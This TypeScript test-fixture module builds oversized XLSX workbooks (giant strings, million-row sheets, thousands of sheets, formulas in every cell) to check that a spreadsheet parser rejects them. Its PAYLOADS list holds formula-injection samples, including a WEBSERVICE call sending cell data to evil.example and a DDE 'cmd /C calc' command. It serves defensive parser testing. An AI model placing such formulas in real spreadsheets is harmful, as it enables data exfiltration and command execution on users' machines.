/**
 * Corpus categories that are well-formed but too big for a parser: enormous shared strings, formulas in
 * every cell, a million rows, too many sheets, columns or cells. Each case is the real export with parts
 * changed or added.
 */
import { writeZip, type ZipPart } from './zip-writer';
import { partText, withPart, type Category, type CorpusBase } from './corpus-kit';

const NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const SHEET = 'xl/worksheets/sheet2.xml';
const SHEETS = [1, 2, 3, 4, 5, 6].map((k) => `xl/worksheets/sheet${k}.xml`);
const zip = (base: CorpusBase, name: string, data: string | Buffer) => writeZip(withPart(base, name, data)).buf;
const sst = (items: string) => `<?xml version="1.0" encoding="UTF-8"?><sst ${NS}>${items}</sst>`;
export const sheetXml = (rows: string) => `<?xml version="1.0" encoding="UTF-8"?><worksheet ${NS}><sheetData>${rows}</sheetData></worksheet>`;
const addRow = (base: CorpusBase, row: string) => partText(base, SHEET).replace('</sheetData>', `${row}</sheetData>`);

export function colName(n: number): string {
  let s = '';
  for (; n > 0; n = Math.floor((n - 1) / 26)) s = String.fromCharCode(65 + ((n - 1) % 26)) + s;
  return s;
}

/** Rows of cells built by `cell(row, col)`, joined once (these strings reach tens of MB). */
function rows(count: number, cols: number, cell: (r: number, c: number) => string, from = 1): string {
  const out: string[] = [];
  for (let r = from; r < from + count; r++) {
    let row = `<row r="${r}">`;
    for (let c = 1; c <= cols; c++) row += cell(r, c);
    out.push(`${row}</row>`);
  }
  return out.join('');
}

const TOO_LONG = /more than 32,767 characters|different texts|compressed \d+ times/;

const sharedStrings: Category = {
  name: 'enormous shared strings',
  modest: 3,
  cases: (base) => {
    const long = [32_768, 40_000, 100_000, 1_000_000, 5_000_000, 33_000];
    const make: [string, () => Buffer][] = [
      ...long.map((n): [string, () => Buffer] => [`si-${n}`, () => zip(base, 'xl/sharedStrings.xml', sst(`<si><t>${'x'.repeat(n)}</t></si>`))]),
      ...long
        .slice(0, 5)
        .map((n): [string, () => Buffer] => [
          `inline-${n}`,
          () => zip(base, SHEET, addRow(base, `<row r="40"><c r="A40" t="inlineStr"><is><t>${'y'.repeat(n)}</t></is></c></row>`)),
        ]),
      ...[32_768, 100_000, 1_000_000].map((n): [string, () => Buffer] => [
        `cdata-${n}`,
        () => zip(base, 'xl/sharedStrings.xml', sst(`<si><t><![CDATA[${'z'.repeat(n)}]]></t></si>`)),
      ]),
      ...[32_768, 100_000].map((n): [string, () => Buffer] => [
        `entities-${n}`,
        () => zip(base, 'xl/sharedStrings.xml', sst(`<si><t>${'&amp;'.repeat(n)}</t></si>`)),
      ]),
      ...[
        [9, 4000],
        [100, 400],
        [2, 20_000],
      ].map(([k, n]): [string, () => Buffer] => [
        `runs-${k}x${n}`,
        () => zip(base, 'xl/sharedStrings.xml', sst(`<si>${`<r><t>${'r'.repeat(n)}</t></r>`.repeat(k)}</si>`)),
      ]),
      ['distinct-1000001', () => zip(base, 'xl/sharedStrings.xml', sst(Array.from({ length: 1_000_001 }, (_, i) => `<si><t>s${i}</t></si>`).join('')))],
      ['same-1000001', () => zip(base, 'xl/sharedStrings.xml', sst('<si><t>x</t></si>'.repeat(1_000_001)))],
      ['phonetic', () => zip(base, 'xl/sharedStrings.xml', sst(`<si><t>${'p'.repeat(20_000)}</t><rPh sb="0" eb="1"><t>${'q'.repeat(20_000)}</t></rPh></si>`))],
      ['number-40000-digits', () => zip(base, SHEET, addRow(base, `<row r="40"><c r="A40"><v>${'9'.repeat(40_000)}</v></c></row>`))],
      ['str-formula-result', () => zip(base, SHEET, addRow(base, `<row r="40"><c r="A40" t="str"><f>1</f><v>${'w'.repeat(40_000)}</v></c></row>`))],
      ['emoji', () => zip(base, 'xl/sharedStrings.xml', sst(`<si><t>${'😀'.repeat(20_000)}</t></si>`))],
    ];
    return make.map(([name, build]) => ({ name: `strings-${name}.xlsx`, expect: TOO_LONG, build }));
  },
};

const PAYLOADS = [
  'WEBSERVICE("http://evil.example/?"&amp;A1)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example","x")',
  'INDIRECT("A"&amp;ROW())+1',
  'SUM(A1:XFD1048576)',
];

/** Every cell a formula with no cached value, on every sheet (or, past the cell limit, on one). */
const formulas: Category = {
  name: 'formulas everywhere',
  modest: 2,
  cases: (base) =>
    [
      [1000, 13],
      [20_000, 51],
      [3000, 13],
      [100, 13],
      [10, 5],
    ].flatMap(([r, c]) =>
      PAYLOADS.map((f, k) => ({
        name: `formulas-${r}x${c}-${k}.xlsx`,
        expect: /not a Plan Editor budget workbook|more than [\d,]+ cells|would take/,
        build: () => {
          const xml = sheetXml(rows(r, c, (row, col) => `<c r="${colName(col)}${row}"><f>${f}</f></c>`));
          const targets = r * c * SHEETS.length > 1_000_000 ? [SHEET] : SHEETS;
          return writeZip(base.parts.map((p) => (targets.includes(p.name) ? { name: p.name, data: Buffer.from(xml) } : p))).buf;
        },
      })),
    ),
};

const million: Category = {
  name: '1,000,000 rows',
  modest: 1,
  cases: (base) => {
    const extraSheets = (): ZipPart[] =>
      Array.from({ length: 50 }, (_, k) => ({
        name: `xl/worksheets/sheet${k + 7}.xml`,
        data: Buffer.from(sheetXml(rows(20_000, 2, (r, c) => `<c r="${colName(c)}${r}"><v>${r}</v></c>`))),
      }));
    const make: [string, () => Buffer][] = [
      ['numbered', () => zip(base, SHEET, sheetXml(rows(1_000_000, 1, (r) => `<c r="A${r}"><v>${r}</v></c>`)))],
      ['unnumbered', () => zip(base, SHEET, sheetXml('<row><c><v>1</v></c></row>'.repeat(1_000_000)))],
      ['empty-rows', () => zip(base, SHEET, sheetXml(Array.from({ length: 1_000_000 }, (_, i) => `<row r="${i + 1}"/>`).join('')))],
      ['one-row-at-1000000', () => zip(base, SHEET, sheetXml('<row r="1000000"><c r="A1000000"><v>1</v></c></row>'))],
      ['50-sheets-of-20000', () => writeZip([...base.parts, ...extraSheets()]).buf],
      ['strings-and-rows', () => zip(base, SHEET, sheetXml(rows(1_000_000, 1, (r) => `<c r="A${r}" t="s"><v>${r % 50}</v></c>`)))],
    ];
    return make.map(([name, build]) => ({
      name: `million-${name}.xlsx`,
      expect: /more than 20,000 rows|numbered beyond|beyond row|more than [\d,]+ cells|compressed \d+ times/,
      build,
    }));
  },
};

const tooMany: Category = {
  name: 'too many sheets, columns or cells',
  modest: 3,
  cases: (base) => {
    const wb = partText(base, 'xl/workbook.xml');
    const sheetTags = (n: number) =>
      wb.replace('</sheets>', `${Array.from({ length: n }, (_, k) => `<sheet name="S${k}" sheetId="${k + 100}" r:id="rIdX${k}"/>`).join('')}</sheets>`);
    const make: [string, () => Buffer][] = [
      [
        '251-sheet-parts',
        () =>
          writeZip([...base.parts, ...Array.from({ length: 245 }, (_, k) => ({ name: `xl/worksheets/sheet${k + 7}.xml`, data: Buffer.from(sheetXml('')) }))])
            .buf,
      ],
      ['300-sheets-listed', () => zip(base, 'xl/workbook.xml', sheetTags(300))],
      ['1000-sheets-listed', () => zip(base, 'xl/workbook.xml', sheetTags(1000))],
      ...[1001, 5000, 16_384].map((c): [string, () => Buffer] => [
        `column-${c}`,
        () => zip(base, SHEET, addRow(base, `<row r="40"><c r="${colName(c)}40"><v>1</v></c></row>`)),
      ]),
      ...[70_000, 1_000_000].map((n): [string, () => Buffer] => [`tag-${n}`, () => zip(base, SHEET, addRow(base, `<row r="40" x="${'a'.repeat(n)}"/>`))]),
      ...[20_001, 25_000].map((n): [string, () => Buffer] => [
        `rows-${n}`,
        () => zip(base, SHEET, sheetXml('<row><c><v>1</v></c></row>'.replace('<v>1', '<v>2').repeat(n))),
      ]),
      ['cells-1020000', () => zip(base, SHEET, sheetXml(rows(20_000, 51, (_r, c) => `<c><v>${c}</v></c>`)))],
      [
        'comment-40000',
        () =>
          writeZip([
            ...base.parts,
            {
              name: 'xl/comments1.xml',
              data: Buffer.from(`<comments ${NS}><commentList><comment ref="A1"><text><t>${'c'.repeat(40_000)}</t></text></comment></commentList></comments>`),
            },
          ]).buf,
      ],
      [
        'defined-name-40000',
        () =>
          zip(
            base,
            'xl/workbook.xml',
            wb.replace('</workbook>', `<definedNames><definedName name="x">${'A'.repeat(40_000)}</definedName></definedNames></workbook>`),
          ),
      ],
      ['rows-20001-numbered', () => zip(base, SHEET, sheetXml(rows(20_001, 1, (r) => `<c r="A${r}"><v>${r}</v></c>`)))],
      ['distinct-cells-1020000', () => zip(base, SHEET, sheetXml(rows(20_000, 51, (r, c) => `<c r="${colName(c)}${r}"><v>${r * c}</v></c>`)))],
    ];
    return make.map(([name, build]) => ({ name: `too-many-${name}.xlsx`, expect: /more than|beyond|longer than|compressed \d+ times/, build }));
  },
};

export const sizeCategories: Category[] = [sharedStrings, formulas, million, tooMany];
